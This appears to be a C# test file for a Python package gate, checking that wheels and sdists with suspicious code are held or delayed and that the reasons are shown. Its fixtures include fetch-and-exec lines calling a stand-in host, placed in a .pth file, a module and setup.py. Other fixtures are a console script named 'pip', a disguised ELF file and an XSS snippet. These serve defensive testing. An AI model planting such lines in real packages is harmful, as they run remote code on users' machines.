using System.Text;
using Bonded.Data;
using Bonded.Gate.Inspections;
using Bonded.Inspection;
using Bonded.Policy;
using Bonded.Testing;
using Bonded.Testing.Packages;

namespace Bonded.Server.Tests;

/// <summary>What is seen in a file's code and layout, from the client's side: what holds, what waits, and how it is explained.</summary>
public sealed class CodeTests
{
    static readonly string Rule = Rules.Code[0].Id;

    static readonly Finding Found = new(
        Rule, Strength.High, "Something is fetched and run.", "quillwharf/__init__.py", 7, "exec(\"<script>alert(1)</script>\")", Trigger.Import, ["base64", "zlib"]);

    // What Python runs at each start, as fetching as it gets.
    const string Fetching = "import urllib.request; exec(urllib.request.urlopen('https://updates.example.invalid/init').read())\n";

    static void Sees(TestServer server, params Finding[] findings) => server.Inspector.Before = (filename, _) =>
    {
        var wheel = Goods.Wheel("quillwharf", filename.Split('-')[1]);
        var bytes = wheel.Build();
        return Task.FromResult<InspectionOutcome?>(new InspectionOutcome.Done(new InspectionFacts
        {
            Sha256 = Packaging.Sha256Digest.Of(bytes),
            Filename = filename,
            Engine = server.Inspector.Engine,
            Size = bytes.Length,
            MetadataSha256 = Packaging.Sha256Digest.Of(wheel.MetadataBytes()),
            Metadata = wheel.MetadataBytes(),
            Findings = filename.Contains("-2.0", StringComparison.Ordinal) ? findings : [],
            Capabilities = [new CapabilityUse("network", Trigger.Import)],
        }));
    };

    [Theory, DatabaseData]
    public async Task A_finding_in_code_holds_with_a_chain_that_everybody_can_read(DatabaseKind kind)
    {
        await using var server = await TestServer.Start(kind);
        Sees(server, Found, Found with { Line = 9, Layers = null });
        server.Upstream.PutWheel("quillwharf", "1.0");
        var bytes = server.Upstream.PutWheel("quillwharf", "2.0");
        var name = Goods.WheelName("quillwharf", "2.0");

        // Already the first page offers the release before it.
        var page = await server.Page("quillwharf");
        Assert.Equal([Goods.WheelName("quillwharf", "1.0")], page.Offered);
        var refused = await server.Refused(TestServer.PathOf(name, bytes));
        Assert.Equal([Rule], refused.Rules);
        Assert.StartsWith($"Held by {Rule}: Something is fetched and run; http://packages.example/q/", refused.Detail, StringComparison.Ordinal);
        Assert.Equal(refused.Detail, page[name].Withheld);

        // Member, line, layers, when it runs and what it says, on the page and for the command line; once restarted too.
        for (var round = 0; round < 2; round++)
        {
            var entry = (await server.Get($"/q/{(await server.Quarantined("quillwharf", name))!.Id}")).Text;
            Assert.Contains(
                "<ol class=\"chain\"><li>Runs when it is imported</li><li>In <code>quillwharf/__init__.py</code>, line 7</li><li>Wrapped in base64</li><li>Wrapped in zlib</li><li><pre>",
                entry, StringComparison.Ordinal);
            Assert.Contains("line 9", entry, StringComparison.Ordinal);
            Assert.Contains("exec(&quot;&lt;script&gt;alert(1)&lt;/script&gt;&quot;)", entry, StringComparison.Ordinal);
            Assert.DoesNotContain("<script", entry, StringComparison.Ordinal);
            var why = (await server.Get("/api/v1/why/quillwharf?version=2.0")).Json.GetProperty("files")[0].GetProperty("fired")[0];
            Assert.Equal(Rule, why.GetProperty("rule").GetString());
            var seen = why.GetProperty("seen")[0];
            Assert.Equal(("quillwharf/__init__.py", 7, "import", "when it is imported"), (seen.GetProperty("path").GetString(), seen.GetProperty("line").GetInt32(), seen.GetProperty("trigger").GetString(), seen.GetProperty("runs").GetString()));
            Assert.Equal(["base64", "zlib"], seen.GetProperty("layers").EnumerateArray().Select(layer => layer.GetString()!));
            Assert.Equal(Found.Snippet, seen.GetProperty("snippet").GetString());
            var facts = InspectionFacts.FromJson((await server.Database.Read(tx => Inspections.Newest(tx, Packaging.Sha256Digest.Of(bytes), name)))!.FactsJson);
            Assert.Equal(Found.Layers, facts.Findings[0].Layers);
            Assert.Equal(Trigger.Import, facts.Findings[0].Trigger);
            Assert.Equal([new CapabilityUse("network", Trigger.Import)], facts.Capabilities);
            await server.Restart();
        }
    }

    [Theory, DatabaseData]
    public async Task A_rule_about_code_is_set_and_answered_by_its_id(DatabaseKind kind)
    {
        await using var server = await TestServer.Start(new ServerSetup { Kind = kind, Policy = $"rules.{Rule} = {{ mode = \"observe\" }}" });
        Sees(server, Found);
        var bytes = server.Upstream.PutWheel("quillwharf", "2.0");
        var path = TestServer.PathOf(Goods.WheelName("quillwharf", "2.0"), bytes);
        await server.Page("quillwharf");
        await server.Download(path);
        await server.Restart(new ServerSetup { Kind = kind, Policy = $"rules.{Rule} = {{ action = \"deny\", mode = \"enforce\" }}" });
        Assert.Equal("deny", (await server.Refused(path)).Json.GetProperty("decision").GetString());
        await server.Restart(new ServerSetup { Kind = kind, Policy = $"findings_in_use = \"hold\"\nallow = [{{ name = \"quillwharf\", rules = [\"{Rules.Code[1].Id}\"], why = \"looked at\" }}]" });
        Assert.Equal([Rule], (await server.Refused(path)).Rules);
        await server.Restart(new ServerSetup { Kind = kind, Policy = $"findings_in_use = \"hold\"\nallow = [{{ name = \"quillwharf\", rules = [\"{Rule}\"], why = \"looked at\" }}]" });
        Assert.Equal(bytes, await server.Download(path));
        Assert.Contains("looked at", (await server.Get("/api/v1/why/quillwharf")).Text, StringComparison.Ordinal);
    }

    [Theory, DatabaseData]
    public async Task What_needs_a_second_look_waits_a_fortnight(DatabaseKind kind)
    {
        await using var server = await TestServer.Start(kind);
        Sees(server, Found with { Strength = Strength.Medium });
        server.Upstream.PutWheel("quillwharf", "1.0", daysOld: 10);
        var bytes = server.Upstream.PutWheel("quillwharf", "2.0", daysOld: 10);
        Assert.Equal([Goods.WheelName("quillwharf", "1.0")], (await server.Page("quillwharf")).Offered);
        var refused = await server.Refused(TestServer.PathOf(Goods.WheelName("quillwharf", "2.0"), bytes));
        Assert.StartsWith(
            "Held by minimum-age: quillwharf 2.0 was uploaded on 2026-06-05, free on 2026-06-19, after 14 days instead of 7 because its code needs a second look: Something is fetched and run",
            refused.Detail, StringComparison.Ordinal);
        await server.Pass(TimeSpan.FromDays(4.1));
        Assert.Equal(bytes, await server.Download(TestServer.PathOf(Goods.WheelName("quillwharf", "2.0"), bytes)));
    }

    [Theory]
    [InlineData("quillwharf.pth")]
    [InlineData("quillwharf-1.0.data/purelib/quillwharf.pth")]
    [InlineData("quillwharf-1.0.data/data/lib/python3.13/site-packages/quillwharf.pth")]
    public async Task A19_startup_code_that_fetches_and_runs_is_held(string path)
    {
        await using var server = await TestServer.Start();
        await IsHeld(server, Goods.Wheel("quillwharf", "1.0").With(path, Fetching));
    }

    [Fact]
    public async Task A19_a_start_file_that_names_code_which_fetches_is_held()
    {
        await using var server = await TestServer.Start();
        await IsHeld(server, Goods.Wheel("quillwharf", "1.0").With("quillwharf.start", "quillwharf.early:main\n")
            .With("quillwharf/early.py", "import urllib.request\n\ndef main():\n    exec(urllib.request.urlopen('https://updates.example.invalid/init').read())\n"));
    }

    public static TheoryData<string, string, string> Waiting => new()
    {
        { "A18", "quillwharf-1.0.data/evil/x", "x" },
        { "A19", "quillwharf.pth", "import quillwharf\n" },
        { "A20", "quillwharf/hidden.pyc", "x" },
        { "A21", "quillwharf/notes.txt", "\u007fELF" + new string('\u0001', 60) },
        { "A22", "quillwharf-1.0.dist-info/entry_points.txt", "[console_scripts]\npip = quillwharf:main\n" },
        { "A22", "quillwharf-1.0.data/scripts/python3", "#!python\n" },
    };

    [Theory, MemberData(nameof(Waiting))]
    public async Task A18_to_A22_what_is_odd_waits_at_least_a_fortnight(string row, string path, string content)
    {
        Assert.NotNull(row);
        await using var server = await TestServer.Start();
        var wheel = Goods.Wheel("quillwharf", "1.0").With(path, Encoding.Latin1.GetBytes(content));
        var bytes = server.Upstream.Put(wheel, "quillwharf", daysOld: 10);
        await server.Page("quillwharf");
        await server.Get(TestServer.PathOf(wheel.FileName, bytes));
        var refused = await server.Refused(TestServer.PathOf(wheel.FileName, bytes));
        Assert.Equal(["minimum-age"], refused.Rules);
        Assert.Contains("free on 2026-06-19, after 14 days instead of 7 because it needs a second look: ", refused.Detail, StringComparison.Ordinal);
        await server.Pass(TimeSpan.FromDays(4.1));
        Assert.Equal(bytes, await server.Download(TestServer.PathOf(wheel.FileName, bytes)));
    }

    [Fact]
    public async Task A19_a_pth_file_of_folders_is_noted_and_comes_in()
    {
        await using var server = await TestServer.Start();
        var wheel = Goods.Wheel("quillwharf", "1.0").With("quillwharf.pth", "quillwharf_vendored\n");
        var bytes = server.Upstream.Put(wheel, "quillwharf", daysOld: 10);
        await server.Page("quillwharf");
        Assert.Equal(bytes, await server.Download(TestServer.PathOf(wheel.FileName, bytes)));
        Assert.Contains("startup-code", (await server.Get("/api/v1/why/quillwharf")).Text, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("", true)]
    [InlineData("rules.archive-irregular = { mode = \"enforce\" }", false)]
    public async Task B02_links_in_an_sdist_are_noted_and_refused_where_the_policy_says_so(string policy, bool served)
    {
        await using var server = await TestServer.Start(new ServerSetup { Policy = policy });
        var sdist = Goods.Sdist("quillwharf", "1.0").WithLink("README", "quillwharf/__init__.py");
        var bytes = sdist.Build();
        server.Upstream.Project("quillwharf").File(sdist.FileName, bytes, TestServer.Now.AddDays(-100));
        await server.Page("quillwharf");
        var path = TestServer.PathOf(sdist.FileName, bytes);
        if (served)
            Assert.Equal(bytes, await server.Download(path));
        else
            Assert.Equal(["archive-irregular"], (await server.Refused(path)).Rules);
        Assert.Contains("archive-irregular", (await server.Get("/api/v1/why/quillwharf")).Text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_sdist_that_installers_would_build_is_looked_into_before_the_first_page()
    {
        await using var server = await TestServer.Start();
        server.Upstream.PutWheel("quillwharf", "1.0");
        var sdist = Goods.Sdist("quillwharf", "2.0").With("setup.py",
            "import os, urllib.request\nexec(urllib.request.urlopen('https://updates.example.invalid/init').read())\nfrom setuptools import setup\nsetup()\n");
        server.Upstream.Project("quillwharf").File(sdist.FileName, sdist.Build(), TestServer.Now.AddDays(-100));
        Assert.Equal([Goods.WheelName("quillwharf", "1.0")], (await server.Page("quillwharf")).Offered);
    }

    static async Task IsHeld(TestServer server, WheelBuilder wheel)
    {
        var bytes = server.Upstream.Put(wheel, "quillwharf", daysOld: 1_000);
        Assert.Empty((await server.Page("quillwharf")).Offered);
        var refused = await server.Refused(TestServer.PathOf(wheel.FileName, bytes));
        Assert.Equal("hold", refused.Json.GetProperty("decision").GetString());
        Assert.Contains(refused.Rules, rule => Rules.Of(rule).IsAboutCode);
        Assert.False(refused.Json.TryGetProperty("until", out _));
        Assert.Contains("at every start of Python", (await server.Get("/api/v1/why/quillwharf")).Text, StringComparison.Ordinal);
    }
}
